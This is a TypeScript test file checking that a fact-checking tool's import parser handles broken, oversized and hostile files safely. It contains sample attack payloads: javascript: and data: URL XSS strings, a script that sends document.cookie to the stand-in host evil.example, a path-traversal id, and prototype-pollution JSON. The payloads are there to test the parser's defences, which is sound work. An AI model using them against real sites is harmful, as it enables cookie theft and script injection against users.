// Importing files that are broken, huge, wrongly typed or hostile: a clear error or a list of
// refused records, nothing thrown, nothing polluted; and the preview's counts.
import { describe, expect, it } from 'vitest';
import { exportBackup, IMPORT_LIMITS, parseImport, planImport } from '../../src/core/formats';
import type { Claim } from '../../src/core/model';

const T0 = Date.UTC(2024, 0, 15, 8);

const CLAIM: Claim = {
  id: '6b7c8d9e-0f1a-4b2c-9d3e-4f5a6b7c8d9e',
  url: 'https://example.org/news/1',
  title: 'A story',
  pageKey: 'example.org/news/1',
  quote: { type: 'TextQuoteSelector', exact: 'the Digital Rights Act', prefix: 'under ', suffix: ',' },
  position: { type: 'TextPositionSelector', start: 10, end: 32 },
  verdict: 'false',
  correction: 'Digital Services Act',
  note: '',
  sources: ['https://eur-lex.europa.eu/eli/reg/2022/2065/oj'],
  tags: ['EU'],
  created: T0,
  updated: T0,
};

/** A backup file whose claims are `records` verbatim. */
const backupOf = (records: unknown[]) =>
  JSON.stringify({
    format: 'factmark-backup',
    version: 1,
    exported: '2024-01-15T08:00:00Z',
    claims: records,
  });

function invalidOf(text: string) {
  const result = parseImport(text, { now: T0 });
  if (result.kind !== 'ok') throw new Error(`expected records, got: ${result.error}`);
  return result;
}

describe('parseImport refuses files it cannot read, with a message', () => {
  it.each([
    ['an empty file', '', /empty/],
    ['whitespace', ' \n\t ', /empty/],
    ['text that is not JSON', 'claim,verdict\nfoo,false', /not valid JSON/],
    ['a truncated backup', exportBackup([CLAIM], new Date(T0)).slice(0, 200), /not valid JSON.*truncated/],
    ['JSON of another kind', '{"hello":"world"}', /Not a file Factmark can import/],
    ['a number', '42', /Not a file Factmark can import/],
    ['null', 'null', /Not a file Factmark can import/],
    ['a list of numbers', '[1,2,3]', /Not a file Factmark can import/],
    ['a backup without claims', '{"format":"factmark-backup","version":1}', /no list of claims/],
    [
      'a backup whose claims are a string',
      '{"format":"factmark-backup","version":1,"claims":"all"}',
      /no list/,
    ],
    ['a backup without a version', '{"format":"factmark-backup","claims":[]}', /version/],
    [
      'a collection whose annotations are elsewhere',
      '{"@context":"http://www.w3.org/ns/anno.jsonld","type":"AnnotationCollection","first":"http://example.org/page1"}',
      /does not include its annotations.*example\.org\/page1/,
    ],
  ])('%s', (_, text, message) => {
    const result = parseImport(text);
    expect(result).toEqual({ kind: 'invalid', error: expect.stringMatching(message) });
  });

  it('refuses a file over 50 MB before parsing it', () => {
    const result = parseImport(' '.repeat(IMPORT_LIMITS.maxChars + 1));
    expect(result).toEqual({
      kind: 'invalid',
      error: expect.stringMatching(/too large \(50 MB\).*up to 50 MB/),
    });
  });

  it('refuses more records than the cap, saying how many', () => {
    expect(IMPORT_LIMITS.maxRecords).toBe(200_000);
    const result = parseImport(backupOf(Array.from({ length: 11 }, () => ({}))), { maxRecords: 10 });
    expect(result).toEqual({ kind: 'invalid', error: expect.stringMatching(/11 records.*at most 10/) });
  });

  it('survives JSON nested 100,000 deep', () => {
    const result = parseImport(`${'['.repeat(100_000)}${']'.repeat(100_000)}`);
    expect(result.kind).toBe('invalid');
  });

  it('reads a 10 MB file, refusing its oversized note and keeping the rest', () => {
    const huge = { ...CLAIM, note: 'x'.repeat(10 * 1024 * 1024) };
    const result = invalidOf(backupOf([huge, CLAIM]));
    expect(result.records.map((r) => r.claim)).toEqual([CLAIM]);
    expect(result.invalid).toEqual([
      { record: 1, field: 'note', reason: 'must be at most 20000 characters' },
    ]);
  });

  it('accepts a file that starts with a byte-order mark', () => {
    expect(parseImport(`\uFEFF${exportBackup([CLAIM], new Date(T0))}`).kind).toBe('ok');
  });
});

describe('parseImport refuses bad records by number and field, keeping the good ones', () => {
  it.each([
    ['a verdict that is a number', { verdict: 42 }, 'verdict', /not a known verdict/],
    ['an unknown verdict', { verdict: 'pants-on-fire' }, 'verdict', /not a known verdict/],
    ['tags that are a string', { tags: 'EU' }, 'tags', /array/i],
    [
      'a position in words',
      { position: { type: 'TextPositionSelector', start: 'ten', end: 32 } },
      'position.start',
      /number/i,
    ],
    [
      'an end before the start',
      { position: { type: 'TextPositionSelector', start: 40, end: 32 } },
      'position',
      /after start/,
    ],
    ['an empty quote', { quote: { ...CLAIM.quote, exact: '' } }, 'quote.exact', /empty/],
    ['a negative date', { created: -5 }, 'created', /1970/],
    ['an id that is not a UUID', { id: '../../etc' }, 'id', /UUID/],
    [
      'a javascript: source',
      { sources: ['javascript:alert(document.cookie)'] },
      'sources.0',
      /http or https/,
    ],
    [
      'a data: source',
      { sources: ['https://ok.example', 'data:text/html,<script>x</script>'] },
      'sources.1',
      /http/,
    ],
    ['a javascript: page', { url: 'javascript:alert(1)' }, 'url', /must be an http or https address/],
    ['an unknown field', { extra: true }, 'extra', /never/i],
  ])('%s', (_, change, field, reason) => {
    const result = invalidOf(
      backupOf([CLAIM, { ...CLAIM, id: '7c8d9e0f-1a2b-4c3d-8e4f-5a6b7c8d9e0f', ...change }]),
    );
    expect(result.records.map((r) => r.claim)).toEqual([CLAIM]);
    expect(result.invalid).toEqual([{ record: 2, field, reason: expect.stringMatching(reason) }]);
  });

  it('refuses a record that is not an object', () => {
    const result = invalidOf(backupOf(['claim', null, 7]));
    expect(result.invalid.map((r) => r.record)).toEqual([1, 2, 3]);
    expect(result.records).toEqual([]);
  });

  it('refuses the second copy of a claim within one file', () => {
    const result = invalidOf(backupOf([CLAIM, CLAIM]));
    expect(result.invalid).toEqual([{ record: 2, field: 'id', reason: 'is the same claim as record 1' }]);
  });

  it('keeps a note with a <script> as the text it is', () => {
    const note =
      '<script>fetch("https://evil.example/?"+document.cookie)</script><img src=x onerror=alert(1)>';
    const result = invalidOf(backupOf([{ ...CLAIM, note }]));
    expect(result.records[0]?.claim.note).toBe(note);
  });

  it('refuses a javascript: source in a Web Annotation, naming the field', () => {
    const annotation = {
      '@context': 'http://www.w3.org/ns/anno.jsonld',
      id: 'http://example.org/anno/1',
      type: 'Annotation',
      body: { type: 'SpecificResource', source: 'javascript:alert(1)' },
      target: { source: 'https://example.org/a', selector: { type: 'TextQuoteSelector', exact: 'words' } },
    };
    const result = invalidOf(JSON.stringify(annotation));
    expect(result.invalid).toEqual([
      { record: 1, field: 'sources.0', reason: 'must be an http or https address' },
    ]);
  });
});

describe('prototype pollution', () => {
  const polluting = [
    '{"__proto__":{"polluted":"yes"},"format":"factmark-backup","version":1,"claims":[',
    `{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},${JSON.stringify(CLAIM).slice(1)}`,
    ']}',
  ].join('');

  it('drops __proto__, constructor and prototype keys: nothing is polluted, the claim still imports', () => {
    const result = invalidOf(polluting);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
    expect(result.records.map((r) => r.claim)).toEqual([CLAIM]);
    const [record] = result.records;
    expect(Object.getPrototypeOf(record?.claim)).toBe(Object.prototype);
    expect(Object.hasOwn(record!.claim, '__proto__')).toBe(false);
    const plan = planImport(result.records, new Map());
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(plan.toWrite).toEqual([CLAIM]);
  });

  it('does the same inside Web Annotations', () => {
    const text = `[{"__proto__":{"polluted":1},"type":"Annotation","body":{"__proto__":{"polluted":1},"type":"TextualBody","value":"hi"},"target":{"source":"https://example.org/","selector":{"type":"TextQuoteSelector","exact":"x","__proto__":{"polluted":1}}}}]`;
    const result = invalidOf(text);
    expect(result.records[0]?.claim.note).toBe('hi');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses a file nested deeper than any export, in words, before reading it', () => {
    const deep = `${'['.repeat(5_000)}${']'.repeat(5_000)}`;
    expect(parseImport(deep)).toEqual({
      kind: 'invalid',
      error: expect.stringContaining('nested too deeply'),
    });
  });
});

describe('planImport', () => {
  const other: Claim = { ...CLAIM, id: '8d9e0f1a-2b3c-4d4e-9f5a-6b7c8d9e0f1a', verdict: 'accurate' };

  it('counts new, already there and updated records', () => {
    const result = invalidOf(exportBackup([CLAIM, other], new Date(T0)));
    const changed = { ...other, verdict: 'misleading' as const };
    const plan = planImport(result.records, new Map([[CLAIM.id, CLAIM]]));
    expect(plan).toEqual({ toWrite: [other], new: 1, updated: 0, alreadyThere: 1 });
    const again = planImport(result.records, new Map([changed, CLAIM].map((c) => [c.id, c])));
    expect(again).toEqual({ toWrite: [other], new: 0, updated: 1, alreadyThere: 1 });
  });

  it('with only the ids known, counts a known id as already there', () => {
    const result = invalidOf(exportBackup([CLAIM, other], new Date(T0)));
    expect(planImport(result.records, new Set([CLAIM.id]))).toEqual({
      toWrite: [other],
      new: 1,
      updated: 0,
      alreadyThere: 1,
    });
  });

  it('counts a claim that differs only in its timestamps as already there', () => {
    const result = invalidOf(exportBackup([CLAIM], new Date(T0)));
    const touched = { ...CLAIM, updated: T0 + 99_000 };
    expect(planImport(result.records, new Map([[CLAIM.id, touched]]))).toMatchObject({
      alreadyThere: 1,
      updated: 0,
    });
  });
});
